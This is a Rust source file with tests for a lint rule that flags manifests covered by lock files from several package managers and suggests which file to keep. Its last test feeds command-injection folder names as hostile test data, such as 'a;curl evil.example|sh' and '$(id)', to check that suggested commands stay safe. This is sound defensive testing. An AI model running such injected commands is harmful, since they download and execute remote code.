//! Several lock files for one manifest.

use std::collections::{BTreeMap, BTreeSet};

use super::{Locks, Text, ecosystem_of, is_aside, name_of, named};
use crate::model::{Confidence, Coverage, Finding, Location, RuleKind, RuleMeta, Severity};
use crate::probe::packages::{Ecosystem, Manager, Manifest, Packages, locks_of, typed};
use crate::probe::repository::repo::folder_of;

/// The rule.
pub static META: RuleMeta = RuleMeta {
    id: "lockfile-several",
    title: "Several lock files answer for one manifest",
    kind: RuleKind::Finding,
    severity: Severity::Major,
    confidence: Confidence::High,
    what: "Looks for lock files of different package managers that fix the versions of the same manifest, such as `package-lock.json` beside `yarn.lock`.",
    why: "The server may install from the one that you do not use, with versions that you never ran. Your users then meet another app than the one that you tested.",
    fix: "Keep the lock file of the package manager that you use, delete the others, and name it in `packageManager`.",
    example: "# package.json: \"packageManager\": \"pnpm@10.4.1\"\ngit rm package-lock.json yarn.lock",
    references: &["C49", "https://nodejs.org/api/packages.html#packagemanager"],
};

/// One finding for each manifest, those of a workspace together.
pub fn findings(packages: &Packages, locks: &Locks, text: Text<'_>) -> Vec<Finding> {
    let mut claims: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    for lock in packages.locks.iter().filter(|lock| locks.all.contains(&lock.path)) {
        for root in &lock.roots {
            claims.entry(&root.manifest).or_default().insert(&lock.path);
        }
    }
    for manifest in packages.manifests.keys().filter(|manifest| !is_aside(manifest)) {
        let beside = locks.all.iter().filter(|lock| {
            folder_of(lock) == folder_of(manifest)
                && locks_of(name_of(manifest)).is_some_and(|(names, _)| names.contains(&name_of(lock)))
        });
        claims.entry(manifest).or_default().extend(beside.map(String::as_str));
    }
    let mut told: BTreeMap<BTreeSet<&str>, &str> = BTreeMap::new();
    for (manifest, locks) in claims {
        let known: BTreeSet<&str> = locks.into_iter().filter(|lock| writer(name_of(lock)).is_some()).collect();
        let managers: BTreeSet<&str> = known.iter().filter_map(|lock| writer(name_of(lock))).collect();
        let folders: BTreeSet<&str> = known.iter().map(|lock| folder_of(lock)).collect();
        if managers.len() > 1 || folders.len() > 1 {
            told.entry(known).or_insert(manifest);
        }
    }
    told.iter().map(|(locks, manifest)| finding(packages, manifest, locks, text)).collect()
}

/// Who writes a lock file of this name, of those that may lock the same manifest twice.
fn writer(name: &str) -> Option<&'static str> {
    Some(match name {
        "package-lock.json" | "npm-shrinkwrap.json" => "npm",
        "yarn.lock" => "yarn",
        "pnpm-lock.yaml" => "pnpm",
        "bun.lock" | "bun.lockb" => "bun",
        "poetry.lock" => "poetry",
        "uv.lock" => "uv",
        "pdm.lock" => "pdm",
        // Beside a `pyproject.toml` it is another list of the same needs.
        "Pipfile.lock" => "pipenv",
        _ => return None,
    })
}

fn finding(packages: &Packages, manifest: &str, locks: &BTreeSet<&str>, text: Text<'_>) -> Finding {
    let message = format!("`{manifest}` has {} lock files: {}", locks.len(), named(locks.iter().copied(), 5));
    let location = Location::File { path: manifest.to_owned(), span: None };
    let managers: BTreeSet<&str> = locks.iter().filter_map(|lock| writer(name_of(lock))).collect();
    let chosen = match managers.first() {
        // The lock file of the whole workspace answers for all of its members.
        Some(manager) if managers.len() == 1 => Some((*manager, "it is that of the whole workspace".to_owned())),
        _ => chosen(packages, manifest, text),
    };
    let keep = chosen.as_ref().and_then(|(manager, _)| {
        let its = locks.iter().copied().filter(|lock| writer(name_of(lock)) == Some(*manager));
        its.min_by_key(|lock| folder_of(lock).len())
    });
    let fix = match (keep, &chosen) {
        (Some(keep), Some((_, why))) => {
            // Folders come from strangers: one that a shell would read as more than a path is not put into a command.
            let others: Option<Vec<String>> =
                locks.iter().filter(|lock| **lock != keep).map(|lock| typed::path(lock)).collect();
            let command = others.map(|others| format!(": `git rm {}`", others.join(" "))).unwrap_or_default();
            format!("Keep `{keep}`, since {why}, and delete the rest{command}.")
        }
        _ if ecosystem_of(manifest) == Ecosystem::Npm => {
            "Keep the lock file of the package manager that your deployment runs, delete the others, and name it in `packageManager` of `package.json`.".to_owned()
        }
        _ => "Keep the lock file of the tool that your deployment runs, and delete the others.".to_owned(),
    };
    let anchor = locks.iter().copied().collect::<Vec<_>>().join(" ");
    Finding::new(&META, location, anchor, message).fix(fix)
}

/// The package manager that the project names, and where it does.
fn chosen(packages: &Packages, manifest: &str, text: Text<'_>) -> Option<(&'static str, String)> {
    if ecosystem_of(manifest) != Ecosystem::Npm {
        return None;
    }
    let mut folder = folder_of(manifest);
    loop {
        let path = format!("{folder}package.json");
        let named = packages.manifests.get(&path).and_then(|manifest: &Manifest| manifest.package_manager.as_deref());
        if let Some(named) = named {
            let name = ["npm", "yarn", "pnpm", "bun"]
                .into_iter()
                .find(|name| named.strip_prefix(name).is_some_and(|rest| rest.is_empty() || rest.starts_with('@')))?;
            return Some((name, format!("`packageManager` of `{path}` names it")));
        }
        for (file, name) in [("pnpm-workspace.yaml", "pnpm"), (".yarnrc.yml", "yarn"), ("bunfig.toml", "bun")] {
            let path = format!("{folder}{file}");
            if text(&path).is_some() {
                return Some((name, format!("`{path}` configures it")));
            }
        }
        if folder.is_empty() {
            return None;
        }
        folder = folder_of(folder.trim_end_matches('/'));
    }
}

/// How far the rule got. Names are enough for lock files that lie beside each other; those of a workspace are known from
/// what they hold.
pub fn coverage(packages: &Packages, locks: &Locks) -> Coverage {
    let workspace = packages.manifests.values().any(|manifest| !manifest.members.is_empty())
        || packages.locks.iter().any(|lock| lock.manager == Manager::Pnpm && lock.roots.len() > 1);
    match (locks.all.is_empty(), workspace) {
        (false, false) => Coverage::Whole,
        _ => locks.coverage(),
    }
}

#[cfg(test)]
mod tests {
    use std::rc::Rc;

    use super::super::samples;
    use super::*;

    fn told(packages: &Packages, all: &[&str], files: &[&str]) -> Vec<String> {
        let locks = Locks { all: all.iter().map(|path| (*path).to_owned()).collect(), unread: Vec::new() };
        let text = |path: &str| files.contains(&path).then(|| Rc::from(""));
        findings(packages, &locks, &text).iter().map(|f| format!("{}\n{}", f.message, f.fix)).collect()
    }

    #[test]
    fn two_managers_lock_one_manifest() {
        let mut manifest = samples::manifest("package.json", &["zod ^4"]);
        manifest.package_manager = Some("pnpm@10.4.1+sha512.abc".to_owned());
        let packages = samples::packages(vec![manifest], Vec::new());
        assert_eq!(
            told(&packages, &["package-lock.json", "pnpm-lock.yaml"], &[]),
            ["`package.json` has 2 lock files: `package-lock.json` and `pnpm-lock.yaml`\n\
              Keep `pnpm-lock.yaml`, since `packageManager` of `package.json` names it, and delete the rest: `git rm package-lock.json`."]
        );
        let packages = samples::packages(vec![samples::manifest("package.json", &[])], Vec::new());
        let yarn = told(&packages, &["package-lock.json", "yarn.lock"], &[".yarnrc.yml"]);
        assert!(yarn[0].contains("Keep `yarn.lock`, since `.yarnrc.yml`"), "{yarn:?}");
        let open = told(&packages, &["package-lock.json", "yarn.lock"], &[]);
        assert!(open[0].contains("that your deployment runs"), "{open:?}");
    }

    #[test]
    fn one_manager_and_other_manifests_are_fine() {
        let manifests = ["package.json", "api/package.json", "pyproject.toml", "Cargo.toml"];
        let packages =
            samples::packages(manifests.iter().map(|path| samples::manifest(path, &[])).collect(), Vec::new());
        let fine =
            ["package-lock.json", "npm-shrinkwrap.json", "api/yarn.lock", "uv.lock", "Cargo.lock", "pylock.toml"];
        assert_eq!(told(&packages, &fine, &[]), Vec::<String>::new());
        assert_eq!(told(&packages, &["bun.lock", "bun.lockb"], &[]).len(), 0);
        assert_eq!(told(&packages, &["uv.lock", "poetry.lock"], &[]).len(), 1);
    }

    #[test]
    fn a_member_of_a_workspace_has_a_lock_file_of_its_own() {
        let manifests =
            vec![samples::manifest("package.json", &[]), samples::manifest("apps/web/package.json", &["zod ^4"])];
        let lock = samples::lock(Manager::Pnpm, "pnpm-lock.yaml", "apps/web/package.json", &["zod 4.0.0 ^4"]);
        let packages = samples::packages(manifests, vec![lock]);
        let seen = told(&packages, &["pnpm-lock.yaml", "apps/web/package-lock.json"], &["pnpm-workspace.yaml"]);
        assert_eq!(seen.len(), 1);
        assert!(seen[0].starts_with("`apps/web/package.json` has 2 lock files"), "{seen:?}");
        assert!(seen[0].contains("git rm apps/web/package-lock.json"), "{seen:?}");
        let seen = told(&packages, &["pnpm-lock.yaml", "apps/web/pnpm-lock.yaml"], &[]);
        assert!(seen[0].contains("Keep `pnpm-lock.yaml`, since it is that of the whole workspace"), "{seen:?}");
    }

    #[test]
    fn a_command_holds_nothing_but_paths() {
        for (folder, typed) in [
            ("apps/web", Some("`git rm apps/web/package-lock.json`")),
            ("my shop", Some("`git rm \"my shop/package-lock.json\"`")),
            ("a;curl evil.example|sh", None),
            ("$(id)", None),
        ] {
            let mut manifest = samples::manifest(&format!("{folder}/package.json"), &[]);
            manifest.package_manager = Some("pnpm@10.4.1".to_owned());
            let packages = samples::packages(vec![manifest], Vec::new());
            let locks = [format!("{folder}/package-lock.json"), format!("{folder}/pnpm-lock.yaml")];
            let seen = told(&packages, &[&locks[0], &locks[1]], &[]);
            match typed {
                Some(typed) => assert!(seen[0].contains(typed), "{seen:?}"),
                None => assert!(!seen[0].contains("git rm") && seen[0].ends_with("delete the rest."), "{seen:?}"),
            }
        }
    }
}
